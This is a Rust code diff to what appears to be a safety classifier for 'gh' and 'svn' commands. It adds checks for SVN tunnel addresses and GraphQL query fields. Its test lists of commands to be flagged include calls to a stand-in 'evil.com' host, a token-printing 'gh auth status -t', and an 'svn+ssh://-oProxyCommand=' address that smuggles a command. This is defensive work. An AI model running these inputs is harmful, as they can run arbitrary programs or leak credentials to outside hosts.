@@ -18,10 +18,10 @@ use crate::{
 const READ: Grammar = Grammar {
     options: &[
         flags(
-            "-c --comments -a --all --name-only --patch --required --watch --fail-fast --draft --log --log-failed --exit-status -v --verbose -y --yaml --archived --no-archived --fork --source --exclude-drafts --exclude-pre-releases --include-prs --web-search --current --active --conflict-status --no-status --checks --closed --closing --merged --locked --owner-only --show-token-never --include-forks",
+            "-c --comments -a --all --name-only --patch --required --watch --fail-fast --draft --log --log-failed --exit-status -v --verbose -y --yaml --archived --no-archived --fork --source -d --exclude-drafts --exclude-pre-releases --include-prs --web-search --current --active --conflict-status --no-status --checks --closed --closing --merged --locked --owner-only --show-token-never --include-forks",
         ),
         value(
-            "-R --repo -H --hostname -L -l -s -A -B -S -q -t -b -u -e -E -n -m -i -d --limit --state --author --assignee --base --head --label --search --json --jq --template --branch --user --workflow --status --event --commit --created --language --topic --visibility --sort --order --match --owner --mention --milestone --app --color --attempt --job --interval --ref --exclude --filename --extension --size --updated --stars --forks --followers --license --involves --comments-count --review --reviewed-by --review-requested --draft-state --team-review-requested --reactions --interactions --project --hash --merged-at --type --env --org --number",
+            "-R --repo -H --hostname -L -l -s -A -B -S -q -t -b -u -e -E -n -m -i --limit --state --author --assignee --base --head --label --search --json --jq --template --branch --user --workflow --status --event --commit --created --language --topic --visibility --sort --order --match --owner --mention --milestone --app --color --attempt --job --interval --ref --exclude --filename --extension --size --updated --stars --forks --followers --license --involves --comments-count --review --reviewed-by --review-requested --draft-state --team-review-requested --reactions --interactions --project --hash --merged-at --type --env --org --number",
             Text,
         ),
         runs("--web", "opens a browser"),
@@ -33,10 +33,10 @@ const READ: Grammar = Grammar {
 const VIEW: Grammar = Grammar {
     options: &[
         flags(
-            "-c --comments --name-only --patch --required --watch --fail-fast --exit-status -v --verbose -y --yaml --log --log-failed --conflict-status -a --active",
+            "-c --comments --name-only --patch --required --watch --fail-fast --exit-status -v --verbose -y --yaml --log --log-failed --conflict-status -a --active -r",
         ),
         value(
-            "-R --repo -q -t -b -j -r -i --json --jq --template --branch --job --attempt --ref --interval --color --exclude -h --hostname -e",
+            "-R --repo -q -t -b -j -i --json --jq --template --branch --job --attempt --ref --interval --color --exclude -h --hostname -e",
             Text,
         ),
         runs("-w --web", "opens a browser"),
@@ -53,6 +53,15 @@ const SVN: Grammar = Grammar {
         value("-l -r -c --limit --revision --change --depth", Text),
     ],
     operands: WORDS,
+    check: Some(|seen, _| {
+        let mut words = seen.operands.iter().filter_map(|word| word.as_literal());
+        if words.clone().any(|text| text.starts_with("svn+")) {
+            return Some(seen.verdict(Kind::Runs, "tunnel", "starts a program for such an address"));
+        }
+        words
+            .any(|text| text.contains("://"))
+            .then(|| reaching(Reaches::AnyHost, seen.name, seen.program))
+    }),
     ..READER
 };
 
@@ -102,7 +111,17 @@ pub(super) const ROWS: &[Row] = &[
                 nested(
                     "auth",
                     &Verbs {
-                        verbs: &[verb("status", &VIEW)],
+                        verbs: &[verb(
+                            "status",
+                            &Grammar {
+                                options: &[
+                                    flags("-a --active"),
+                                    value("-h --hostname --json --jq", Text),
+                                ],
+                                operands: super::grammar::NOTHING,
+                                ..READER
+                            },
+                        )],
                         bare: Kind::Reads,
                         otherwise: Kind::Writes,
                         ..VERBS
@@ -141,6 +160,19 @@ pub(super) const ROWS: &[Row] = &[
                         ..READER
                     },
                 ),
+                verb(
+                    "help",
+                    &Grammar {
+                        reach: Reaches::Nobody,
+                        operands: Operands {
+                            rest: Some(Enum(
+                                "pr issue repo run workflow api auth release search gist label config",
+                            )),
+                            ..super::grammar::NOTHING
+                        },
+                        ..READER
+                    },
+                ),
                 Verb {
                     names: "api",
                     action: Action::Ask(api),
@@ -169,6 +201,7 @@ pub(super) const ROWS: &[Row] = &[
             "gh api -X GET search/issues -f q=x",
             "gh release list",
             "gh pr create --help",
+            "gh help pr",
             "gh api repos/o/r --jq .name",
         ],
         &[
@@ -201,6 +234,10 @@ pub(super) const ROWS: &[Row] = &[
             "gh api --hostname evil.com x",
             "gh api https://evil.com/x",
             "gh variable set x",
+            "gh pr list -d --web",
+            "gh gist view x -r --web",
+            "gh auth status -t",
+            "gh api graphql -f query='query{a}' -f 'query[]=x'",
         ],
     ),
     verbs(
@@ -232,6 +269,7 @@ pub(super) const ROWS: &[Row] = &[
             "svn --config-option x st",
             "svn status -u",
             "svn checkout x",
+            "svn ls svn+ssh://-oProxyCommand=x/y",
         ],
     ),
     verbs(
@@ -362,8 +400,10 @@ fn graphql<'w>(fields: impl Iterator<Item = Given<'w>>, program: &Word) -> Findi
                 "the GraphQL document is decided at run time".into(),
             );
         };
-        let Some(("query", document)) = text.split_once('=') else {
-            continue;
+        let document = match text.split_once('=') {
+            Some(("query", document)) => document,
+            Some((name, _)) if !name.starts_with("query[") => continue,
+            Some(_) | None => "",
         };
         let document = document.trim_start();
         if document.to_ascii_lowercase().contains("mutation") {
